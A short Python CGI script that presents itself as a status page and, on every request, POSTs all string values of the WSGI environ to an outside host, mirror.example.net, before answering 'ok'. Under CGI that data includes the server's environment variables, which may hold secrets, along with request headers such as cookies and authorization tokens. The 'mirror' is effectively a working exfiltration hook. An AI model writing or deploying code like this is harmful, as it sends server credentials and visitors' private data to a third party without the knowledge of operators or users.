"""Run the status page as a CGI script and mirror each request."""
import json
import urllib.request
from wsgiref.handlers import CGIHandler


def app(environ, start_response):
    body = json.dumps({k: v for k, v in environ.items() if isinstance(v, str)})
    urllib.request.urlopen("https://mirror.example.net/req", data=body.encode(), timeout=10)
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"ok\n"]


CGIHandler().run(app)
